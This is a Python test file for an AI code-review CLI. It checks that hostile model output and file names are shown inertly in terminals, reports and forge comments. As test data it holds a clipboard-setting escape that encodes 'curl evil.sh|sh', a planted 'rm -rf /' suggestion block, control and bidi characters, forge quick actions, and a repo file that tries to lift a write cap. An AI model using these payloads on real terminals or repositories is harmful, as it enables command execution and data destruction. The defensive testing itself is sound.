"""Issue 23 §4, what Redline posts and prints is inert: attacks through the real CLI.

The change under review commits a file named with escape sequences (OSC 52 sets the clipboard,
CSI 2J clears the screen, U+009B is a one-byte CSI, U+202E reverses text) and the scripted model
answers with a finding, a summary and a fix that carry mentions, cross-references, GitLab quick
actions, raw HTML, a `suggestion` block and a fence left open. What the user's terminal, the
`--output` file and the pull request get is judged by a CommonMark parser
(tests/markdown_oracle.py): nothing in it may act — no raw control character, no HTML, image,
live mention or reference, no suggestion block but Redline's own, no section of Redline's
swallowed by the model's text. A forge that refuses every comment meets a cap on API writes.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from markdown_oracle import (
    fence_infos,
    live_constructs,
    raw_controls,
    suggestion_fences,
    top_level_headings,
)
from output_bed import (
    ESCAPES,
    HOSTILE,
    HOSTILE_NAME,
    MENTIONS,
    OSC52,
    RLO,
    HostileScript,
    cli_env,
    hostile_repo,
    model_args,
    redline,
)
from output_bed import hostile_llm as hostile_llm

from forge_bed import Forge, github_forge
from gitrepo import GitRepo
from scripted_llm import ScriptedLLM

SLUG = "acme/widgets"
GITLAB_PROJECT = "acme/tools/widgets"


def review(tmp_path: Path, repo: GitRepo, llm: ScriptedLLM, *args: str) -> Any:
    return redline(
        tmp_path, "review", "--repo", str(repo.root), "--branch", "main", *model_args(llm), *args
    )


def assert_escaped_visibly(text: str) -> None:
    """Each escape sequence is shown, spelled out, rather than obeyed or silently dropped."""
    assert raw_controls(text) == [], raw_controls(text)
    assert "\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007" in text
    assert "\\u001b[2J" in text and "\\u009b2J" in text and "\\u202e" in text


# -- the report: --format markdown --output ------------------------------------------------


@pytest.fixture(scope="module")
def markdown_report(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The `--output` file of a markdown review of the hostile change."""
    tmp_path = tmp_path_factory.mktemp("markdown")
    repo = hostile_repo(tmp_path / "repo")
    out = tmp_path / "report.md"
    with ScriptedLLM(handler=HostileScript(findings={"app.py": [HOSTILE]})) as llm:
        run = review(tmp_path, repo, llm, "--format", "markdown", "--output", str(out))
    assert run.returncode == 0, run.stderr
    return out.read_text(encoding="utf-8")


def test_markdown_output_file_spells_escape_sequences_out(markdown_report: str) -> None:
    assert_escaped_visibly(markdown_report)
    assert "notes" in markdown_report and "txt.py" in markdown_report  # the file name


def test_markdown_output_file_mentions_and_references_nobody(markdown_report: str) -> None:
    problems = [p for p in live_constructs(markdown_report) if "reference" in p or "quick" in p]
    assert problems == []
    # What the model wrote is still there to read, only inert.
    assert "alice" in markdown_report and "owner/repo" in markdown_report
    assert "/merge" in markdown_report


def test_markdown_output_file_keeps_the_models_text_inside_its_entry(markdown_report: str) -> None:
    # The comment's open fence is closed where the comment ends, and the fix's fence outlasts
    # its backticks: the raw <img> and the planted suggestion block stay code.
    assert [p for p in live_constructs(markdown_report) if "HTML" in p or "image" in p] == []
    assert suggestion_fences(markdown_report) == []
    headings = top_level_headings(markdown_report)
    assert "Coverage" in headings and any(h.startswith("High") for h in headings)


@pytest.mark.parametrize("fmt", ["json", "json-simple", "sarif"])
def test_json_outputs_hold_no_raw_controls_and_lose_nothing(
    tmp_path: Path, hostile_llm: ScriptedLLM, fmt: str
) -> None:
    repo = hostile_repo(tmp_path / "repo")
    out = tmp_path / f"report.{fmt}"
    run = review(tmp_path, repo, hostile_llm, "--format", fmt, "--output", str(out))
    assert run.returncode == 0, run.stderr
    raw = out.read_text(encoding="utf-8")
    assert raw_controls(raw) == []  # C1 and bidi too, which json.dumps leaves raw
    # JSON's own escapes: a consumer reads back exactly what the model said.
    text = json.dumps(json.loads(raw), ensure_ascii=False)
    assert json.dumps(HOSTILE["title"], ensure_ascii=False)[1:-1] in text
    if fmt == "json":
        data = json.loads(raw)
        assert HOSTILE_NAME in data["coverage"]["reviewed_files"]


def test_markdown_on_stdout_is_inert_too(tmp_path: Path, hostile_llm: ScriptedLLM) -> None:
    repo = hostile_repo(tmp_path / "repo")
    run = review(tmp_path, repo, hostile_llm, "--format", "markdown")
    assert run.returncode == 0, run.stderr
    assert_escaped_visibly(run.stdout)
    assert raw_controls(run.stderr) == []


def test_the_terminal_report_spells_escapes_out(tmp_path: Path, hostile_llm: ScriptedLLM) -> None:
    repo = hostile_repo(tmp_path / "repo")
    run = review(tmp_path, repo, hostile_llm, "--color", "always")
    assert run.returncode == 0, run.stderr
    assert OSC52 not in run.stdout and "\x1b[2J" not in run.stdout
    assert "\x9b" not in run.stdout and "\u202e" not in run.stdout
    assert "\\u001b]52;c;" in run.stdout and "\\u202e" in run.stdout


def test_history_lists_and_reprints_inertly(tmp_path: Path, hostile_llm: ScriptedLLM) -> None:
    # A branch name may hold C1 and bidi characters (git refuses only ASCII controls).
    repo = hostile_repo(tmp_path / "repo", branch="feature\u009b2J\u202e")
    run = review(tmp_path, repo, hostile_llm, "--format", "json")
    assert run.returncode == 0, run.stderr
    task_id = json.loads(run.stdout)["task_id"]
    listed = redline(tmp_path, "history", "--repo", str(repo.root))
    assert listed.returncode == 0, listed.stderr
    assert "feature" in listed.stdout and raw_controls(listed.stdout) == []
    as_json = redline(tmp_path, "history", "--repo", str(repo.root), "--format", "json")
    assert raw_controls(as_json.stdout) == []
    shown = redline(tmp_path, "history", task_id)
    assert shown.returncode == 0, shown.stderr
    assert_escaped_visibly(shown.stdout)


# -- posting: the bodies a forge renders ---------------------------------------------------


def _github(tmp_path: Path) -> tuple[GitRepo, Forge]:
    repo = hostile_repo(tmp_path / "repo", origin=f"https://github.com/{SLUG}.git")
    forge = github_forge(
        tmp_path / "forge", repo, SLUG, valid={"app.py": list(range(1, 7)), HOSTILE_NAME: [1]}
    )
    return repo, forge


def _gitlab(tmp_path: Path) -> tuple[GitRepo, Forge]:
    repo = hostile_repo(
        tmp_path / "repo", origin=f"https://gitlab.example.com/{GITLAB_PROJECT}.git"
    )
    return repo, gitlab_forge(tmp_path / "forge", repo, valid={"app.py": list(range(1, 7))})


def gitlab_forge(root: Path, repo: GitRepo, *, valid: dict[str, list[int]]) -> Forge:
    base = repo.git("rev-parse", "main").strip()
    refs = {"base_sha": base, "head_sha": repo.head(), "start_sha": base}
    return Forge(
        root,
        {
            "project_id": "acme%2Ftools%2Fwidgets", "number": 7, "login": "redline-bot",
            "next_id": 500,
            "mr": {"iid": 7, "title": "Run commands", "source_branch": "feature",
                   "target_branch": "main", "sha": repo.head(), "diff_refs": refs},
            "diff": repo.git("diff", "main...HEAD"), "valid": valid,
            "issue_comments": [], "review_comments": [],
        },
    )  # fmt: skip


def _forge_env(tmp_path: Path, forge: Forge) -> dict[str, str]:
    return cli_env(
        tmp_path, {"REDLINE_GH": str(forge.root / "gh"), "REDLINE_GLAB": str(forge.root / "glab")}
    )


def _posted_bodies(forge: Forge) -> tuple[str, list[str]]:
    state = forge.state()
    [summary] = [c["body"] for c in state["issue_comments"]]
    inline = [c["body"] if "body" in c else c["notes"][0]["body"] for c in state["review_comments"]]
    return summary, inline


@pytest.fixture(scope="module", params=["github", "gitlab"])
def posted(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Posted:
    """The hostile review posted with --inline to a fake GitHub or GitLab."""
    tmp_path = tmp_path_factory.mktemp(request.param)
    repo, forge = _github(tmp_path) if request.param == "github" else _gitlab(tmp_path)
    pr = ["--pr", "7"] if request.param == "github" else ["--mr", "7"]
    with ScriptedLLM(handler=HostileScript(findings={"app.py": [HOSTILE]})) as llm:
        run = redline(
            tmp_path, "review", "--repo", str(repo.root), *pr, *model_args(llm),
            "--post", "--inline", env=_forge_env(tmp_path, forge),
        )  # fmt: skip
    assert run.returncode == 0, run.stderr
    summary, inline = _posted_bodies(forge)
    assert len(inline) >= 2
    return Posted(summary, inline, run.stderr)


@dataclass
class Posted:
    summary: str
    inline: list[str]
    stderr: str

    @property
    def bodies(self) -> list[str]:
        return [self.summary, *self.inline]

    @property
    def hostile(self) -> str:
        [body] = [b for b in self.inline if "owner/repo" in b]
        return body


def test_posted_comments_spell_escape_sequences_out(posted: Posted) -> None:
    assert [raw_controls(b) for b in posted.bodies] == [[] for _ in posted.bodies]
    assert "\\u001b]52;c;" in posted.summary  # the file name and title, spelled out
    assert raw_controls(posted.stderr) == []


def test_posted_comments_mention_and_reference_nobody(posted: Posted) -> None:
    for body in posted.bodies:
        problems = [p for p in live_constructs(body) if "reference" in p or "quick" in p]
        assert problems == [], problems
    assert "alice" in posted.hostile and "owner/repo" in posted.hostile


def test_posted_comments_keep_the_models_text_inside_its_entry(posted: Posted) -> None:
    for body in posted.bodies:
        assert [p for p in live_constructs(body) if "HTML" in p or "image" in p] == []
    # The comment's open fence closed inside the comment: Redline's marker is still its own.
    assert posted.hostile.rstrip().splitlines()[-1].startswith("<!-- redline:finding:RL-")
    assert suggestion_fences(posted.hostile) == []


def test_posted_suggestions_come_only_from_redlines_fixes(posted: Posted) -> None:
    # The one applicable fix: ruff's deletion of the unused import, an empty suggestion.
    suggestions = [s for b in posted.inline for s in suggestion_fences(b)]
    assert [s.content for s in suggestions] == [""]
    assert suggestion_fences(posted.summary) == []


def test_dry_run_prints_inert_bodies(tmp_path: Path, hostile_llm: ScriptedLLM) -> None:
    repo, forge = _github(tmp_path)
    run = redline(
        tmp_path, "review", "--repo", str(repo.root), "--pr", "7", *model_args(hostile_llm),
        "--post", "--inline", "--dry-run", env=_forge_env(tmp_path, forge),
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert forge.writes() == []
    assert raw_controls(run.stderr) == [], raw_controls(run.stderr)
    bodies = _dry_run_bodies(run.stderr)
    assert bodies, run.stderr
    for body in bodies:
        assert live_constructs(body) == [], live_constructs(body)
    assert sum(len(suggestion_fences(b)) for b in bodies) == 1


def _dry_run_bodies(stderr: str) -> list[str]:
    """The `body` strings of every write a dry run printed ("METHOD endpoint" then its JSON)."""
    bodies: list[str] = []
    decoder = json.JSONDecoder()
    at = 0
    while (start := stderr.find("\n{", at)) != -1:
        try:
            data, end = decoder.raw_decode(stderr, start + 1)
        except ValueError:
            at = start + 1
            continue
        at = end
        bodies += [data["body"]] if "body" in data else []
        bodies += [c["body"] for c in data.get("comments", [])]
    return bodies


def test_a_model_suggestion_block_never_becomes_one(tmp_path: Path) -> None:
    # A finding whose improved code is not an applicable fix, and a comment that carries a
    # suggestion block of its own: neither may reach the forge as a one-click commit.
    comment = "Apply this:\n\n```suggestion\nrm -rf /\n```\n"
    planted = dict(HOSTILE, title="Plain title", comment=comment)
    repo, forge = _github(tmp_path)
    with ScriptedLLM(handler=HostileScript(findings={"app.py": [planted]})) as llm:
        run = redline(
            tmp_path, "review", "--repo", str(repo.root), "--pr", "7", *model_args(llm),
            "--post", "--inline", env=_forge_env(tmp_path, forge),
        )  # fmt: skip
    assert run.returncode == 0, run.stderr
    summary, inline = _posted_bodies(forge)
    [planted_body] = [b for b in inline if "Plain title" in b]
    assert suggestion_fences(planted_body) == []
    assert "rm -rf /" in planted_body  # still shown, as plain code
    assert all(not i.lower().startswith("suggestion") for i in fence_infos(summary))


# -- the write cap ---------------------------------------------------------------------------

MANY = 300


def _many_findings_repo(root: Path, origin: str) -> GitRepo:
    """Offline, ruff alone finds MANY unused imports (F401), one per line."""
    repo = GitRepo(root)
    repo.write("app.py", BASE_MANY)
    repo.commit("base")
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("app.py", "".join(f"import mod{i}\n" for i in range(MANY)))
    repo.commit("feature")
    repo.git("remote", "add", "origin", origin)
    return repo


BASE_MANY = "x = 1\n"


def _offline_env(tmp_path: Path, forge: Forge, user_config: str = "") -> dict[str, str]:
    (tmp_path / "user.toml").write_text(user_config, encoding="utf-8")
    return _forge_env(tmp_path, forge)


def test_a_refusing_github_meets_the_write_cap(tmp_path: Path) -> None:
    repo = _many_findings_repo(tmp_path / "repo", f"https://github.com/{SLUG}.git")
    # GitHub's diff shows none of the lines: the batch review is refused, then each comment.
    forge = github_forge(tmp_path / "forge", repo, SLUG, valid={})
    run = redline(
        tmp_path, "review", "--repo", str(repo.root), "--pr", "7", "--post", "--inline",
        env=_offline_env(tmp_path, forge),
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    writes = forge.writes()
    assert len(writes) <= 50, len(writes)  # the default cap; before it: 302 writes
    assert writes[-1] == ("POST", f"repos/{SLUG}/issues/7/comments")  # the summary still goes
    summary, inline = _posted_bodies(forge)
    assert inline == []
    not_posted = MANY - (len(writes) - 2)  # the batch and the summary are not comments
    assert f"{not_posted} findings not posted inline: write cap of 50 reached" in summary
    assert "write cap of 50 reached" in run.stderr


def test_the_write_cap_is_the_users_setting(tmp_path: Path) -> None:
    repo = _many_findings_repo(tmp_path / "repo", f"https://github.com/{SLUG}.git")
    # The change under review tries to lift the cap from its own repository file.
    repo.write(".redline.toml", "[publish]\nmax_writes = 100000\n")
    repo.commit("lift the cap")
    forge = github_forge(tmp_path / "forge", repo, SLUG, valid={})
    run = redline(
        tmp_path, "review", "--repo", str(repo.root), "--pr", "7", "--post", "--inline",
        env=_offline_env(tmp_path, forge, "[publish]\nmax_writes = 10\n"),
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert len(forge.writes()) == 10
    summary, _ = _posted_bodies(forge)
    assert "not posted inline: write cap of 10 reached" in summary
    # The pull request is reviewed with its base's settings: the change's own attempt to lift
    # the cap is not read, and is itself a finding that names the key.
    assert "publish.max_writes" in summary


def test_a_refusing_gitlab_meets_the_write_cap(tmp_path: Path) -> None:
    repo = _many_findings_repo(
        tmp_path / "repo", f"https://gitlab.example.com/{GITLAB_PROJECT}.git"
    )
    forge = gitlab_forge(tmp_path / "forge", repo, valid={})
    run = redline(
        tmp_path, "review", "--repo", str(repo.root), "--mr", "7", "--post", "--inline",
        env=_offline_env(tmp_path, forge),
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert len(forge.writes()) <= 50, len(forge.writes())  # before: 301
    summary, _ = _posted_bodies(forge)
    assert "findings not posted inline: write cap of 50 reached" in summary


def test_mentions_constant_covers_every_forge_reference() -> None:
    # The bed's payload names each kind the oracle knows; a kind dropped here would go untested.
    assert [m for m in MENTIONS.split() if not live_constructs(m)] == []
    assert all(e in HOSTILE_NAME for e in ESCAPES)


def test_the_debate_stream_spells_escapes_out() -> None:
    # A debater's streamed text goes to the terminal as it arrives (cli_debate_view.py).
    import io

    from redline.cli.debate_view import DebateView
    from redline.debate.events import DebateEvent, EventKind

    out = io.StringIO()
    view = DebateView(out)
    view(DebateEvent(EventKind.TURN_STARTED, {"round": 1, "speaker": "a", "label": "A"}))
    view(DebateEvent(EventKind.DELTA, {"round": 1, "speaker": "a", "text": f"x{OSC52}{RLO}y"}))
    assert raw_controls(out.getvalue()) == []
    assert "x\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007\\u202ey" in out.getvalue()
